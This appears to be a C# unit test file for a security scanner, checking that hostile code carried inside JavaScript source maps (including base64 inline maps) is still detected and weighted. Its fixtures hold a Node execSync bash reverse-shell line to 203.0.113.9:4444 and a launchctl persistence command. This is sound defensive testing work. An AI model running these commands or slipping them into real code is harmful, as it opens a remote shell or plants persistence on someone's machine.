using System.Text;
using System.Text.Json;

namespace Symbiont.Scanning.Tests.Files;

/// <summary>A source map is read as the files that it carries, which nothing runs; what only calls itself a map is read as it stands.</summary>
public sealed class SourceMapTests
{
    private const string Stays = "const { execSync } = require('child_process');\nexecSync(`launchctl load \"${file}\"`);\n";
    private const string Opens = "const { execSync } = require('child_process');\nexecSync('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');\n";

    [Fact]
    public void What_a_carried_file_says_is_found_at_its_line_and_weighs_less()
    {
        using var folder = new SkillFolder().With("a.js.map", Map("src/a.ts", "// first\n" + Stays));

        var found = Assert.Single(folder.Scan(), finding => finding.Rule == "persistence");

        Assert.Equal((Severity.Medium, "a.js.map!/a.ts", 3, "carried by a source map, which nothing runs"), (found.Severity, found.File, found.Line, found.Weakened));
    }

    [Fact]
    public void What_has_no_harmless_reading_keeps_its_weight()
    {
        using var folder = new SkillFolder().With("a.js.map", Map("src/a.ts", Opens));

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "reverse-shell-bash", Severity: Severity.Critical });
    }

    [Theory]
    [InlineData("a.js.map", "const { execSync } = require('child_process');\nexecSync('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');\n")]
    [InlineData("a.map", "{ \"version\": 3, \"run\": \"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\" }")]
    [InlineData("a.map", "{ \"version\": 3, \"mappings\": 1, \"sources\": [], \"sourcesContent\": [\"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\"] }")]
    public void What_is_not_shaped_as_a_map_is_read_as_it_stands(string name, string text)
    {
        using var folder = new SkillFolder().With(name, text);

        Assert.Contains(folder.Scan(), finding => finding.Rule == "reverse-shell-bash" && finding.File == name && finding.Severity >= Severity.High);
    }

    [Fact]
    public void What_else_stands_in_a_map_is_read_too()
    {
        using var folder = new SkillFolder().With("a.js.map", Map("a.ts", "let a;", extra: "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));

        Assert.Contains(folder.Scan(), finding => finding is { Rule: "reverse-shell-bash", File: "a.js.map" });
    }

    [Fact]
    public void A_map_at_the_end_of_a_program_is_read_in_the_same_way()
    {
        var map = Convert.ToBase64String(Encoding.UTF8.GetBytes(Map("src/a.ts", "let a;\n" + Stays)));
        using var folder = new SkillFolder().With("a.js", $"run();\n//# sourceMappingURL=data:application/json;base64,{map}\n").With("b.js", $"run('{map}');\n");

        var findings = folder.Scan();

        Assert.Contains(findings, finding => finding is { Rule: "persistence", Severity: Severity.Medium, File: "a.js!/a.ts" });
        Assert.Contains(findings, finding => finding is { Rule: "persistence", Severity: Severity.High, File: "b.js" });
    }

    private static string Map(string name, string content, string extra = "") =>
        JsonSerializer.Serialize(new { version = 3, sources = new[] { name }, names = new[] { extra }, mappings = "AAAA", sourcesContent = new[] { content } });
}
